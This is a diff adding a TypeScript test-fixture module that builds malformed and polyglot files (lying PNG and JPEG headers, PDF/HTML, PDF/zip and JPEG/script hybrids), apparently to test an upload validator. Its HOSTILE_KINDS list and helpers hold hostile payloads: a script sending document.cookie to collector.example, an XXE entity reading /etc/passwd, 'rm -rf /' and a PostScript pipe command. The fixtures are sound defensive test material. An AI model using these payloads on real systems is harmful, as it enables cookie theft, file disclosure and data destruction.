@@ -1,0 +1,114 @@
+import { deflateSync } from 'node:zlib';
+import { pdfBytes } from '@funding-desk/shared/testing/factories';
+import sharp from 'sharp';
+
+const PNG_MARK = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
+const CRC_TABLE = Array.from({ length: 256 }, (_, start) => {
+  let value = start;
+  for (let bit = 0; bit < 8; bit += 1) value = value & 1 ? 0xedb88320 ^ (value >>> 1) : value >>> 1;
+  return value >>> 0;
+});
+
+function crc32(bytes: Uint8Array): number {
+  let crc = 0xffffffff;
+  for (const byte of bytes) crc = (CRC_TABLE[(crc ^ byte) & 0xff] ?? 0) ^ (crc >>> 8);
+  return (crc ^ 0xffffffff) >>> 0;
+}
+
+function pngChunk(type: string, data: Uint8Array): Buffer {
+  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
+  const frame = Buffer.alloc(4);
+  frame.writeUInt32BE(data.length);
+  const crc = Buffer.alloc(4);
+  crc.writeUInt32BE(crc32(body));
+  return Buffer.concat([frame, body, crc]);
+}
+
+/** A well-formed grey PNG that claims these sides. @param rows of zeros that are really there; default: none */
+export function pngOf(width: number, height: number, rows = 0): Buffer {
+  const head = Buffer.alloc(13);
+  head.writeUInt32BE(width, 0);
+  head.writeUInt32BE(height, 4);
+  head.set([1, 0, 0, 0, 0], 8);
+  const data = deflateSync(Buffer.alloc(rows * (Math.ceil(width / 8) + 1)), { level: 9 });
+  return Buffer.concat([PNG_MARK, pngChunk('IHDR', head), pngChunk('IDAT', data), pngChunk('IEND', Buffer.alloc(0))]);
+}
+
+/** An animated PNG of two frames by its mark; the first is a plain picture. */
+export async function animatedPng(): Promise<Buffer> {
+  const plain = await plainPng();
+  const control = pngChunk('acTL', Buffer.from([0, 0, 0, 2, 0, 0, 0, 0]));
+  return Buffer.concat([plain.subarray(0, 33), control, plain.subarray(33)]);
+}
+
+/** A drawing that could be a signature. */
+export async function plainPng(width = 400, height = 120): Promise<Buffer> {
+  const line = `<path d="M20 80 C60 10 80 120 120 60 S180 20 220 70 300 90 380 40" stroke="#111" stroke-width="4" fill="none"/>`;
+  const svg = `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 400 120" width="${width}" height="${height}">${line}</svg>`;
+  return sharp(Buffer.from(svg)).png().toBuffer();
+}
+
+export async function plainJpeg(): Promise<Buffer> {
+  return sharp({ create: { width: 60, height: 40, channels: 3, background: '#3a7' } })
+    .jpeg()
+    .toBuffer();
+}
+
+/** A JPEG whose header claims these sides, while the picture is small. */
+export async function jpegThatClaims(width: number, height: number): Promise<Buffer> {
+  const bytes = Buffer.from(await plainJpeg());
+  const at = bytes.indexOf(Buffer.from([0xff, 0xc0]));
+  bytes.writeUInt16BE(height, at + 5);
+  bytes.writeUInt16BE(width, at + 7);
+  return bytes;
+}
+
+const SCRIPT = '<script>fetch("//collector.example/"+document.cookie)</script>';
+
+/** A PDF that a browser left to guess would take for a page: the page stands in a comment at its start. */
+export function pdfThatIsPage(): Buffer {
+  return Buffer.from(
+    pdfBytes().toString('latin1').replace('%PDF-1.4\n', `%PDF-1.4\n%<html>${SCRIPT}</html>\n`),
+    'latin1',
+  );
+}
+
+/** A PDF behind which an archive stands, so that unpackers take it for that. */
+export function pdfThatIsArchive(): Buffer {
+  const name = Buffer.from('payload.js');
+  const end = Buffer.alloc(22);
+  end.write('PK\x05\x06', 'latin1');
+  const local = Buffer.alloc(30);
+  local.write('PK\x03\x04', 'latin1');
+  local.writeUInt16LE(name.length, 26);
+  return Buffer.concat([pdfBytes(), local, name, end]);
+}
+
+export async function pngThatIsPage(): Promise<Buffer> {
+  return Buffer.concat([await plainPng(), Buffer.from(`<html>${SCRIPT}</html>`)]);
+}
+
+/** One that opens, decodes and is a script as well: its first bytes are a JPEG's. */
+export async function jpegThatIsScript(): Promise<Buffer> {
+  const jpeg = await plainJpeg();
+  const comment = Buffer.from(`*/=1;alert(1)/*`);
+  const segment = Buffer.from([0xff, 0xfe, 0, comment.length + 2]);
+  return Buffer.concat([jpeg.subarray(0, 2), segment, comment, jpeg.subarray(2)]);
+}
+
+export const HOSTILE_KINDS: Readonly<Record<string, () => Buffer>> = {
+  'a web page': () => Buffer.from(`<!doctype html><html>${SCRIPT}</html>`),
+  'a web page with a byte order mark': () => Buffer.from(`\ufeff<html>${SCRIPT}</html>`),
+  'an SVG picture': () => Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg">${SCRIPT}</svg>`),
+  'an SVG picture behind an XML line': () =>
+    Buffer.from(`<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>`),
+  'a Windows program': () => Buffer.concat([Buffer.from('MZ\x90\0'), Buffer.alloc(300)]),
+  'a Linux program': () => Buffer.concat([Buffer.from('\x7fELF\x02\x01\x01', 'latin1'), Buffer.alloc(300)]),
+  'a shell script': () => Buffer.from('#!/bin/sh\nrm -rf /\n'),
+  'a GIF picture that is a script': () => Buffer.from('GIF89a/*\0\0\0\0\0\0*/=1;alert(1)'),
+  'an archive': () => Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), Buffer.alloc(60)]),
+  'a PostScript program': () => Buffer.from('%!PS-Adobe-3.0\n(%pipe%id) (w) file\n'),
+  'a page with a PDF`s mark further down': () => Buffer.from(`<html>${SCRIPT}\n%PDF-1.4\n</html>\n%%EOF`),
+  'text that says it is a PDF': () => Buffer.from('PDF-1.4 statement\n%%EOF'),
+  zeros: () => Buffer.alloc(1_000),
+};
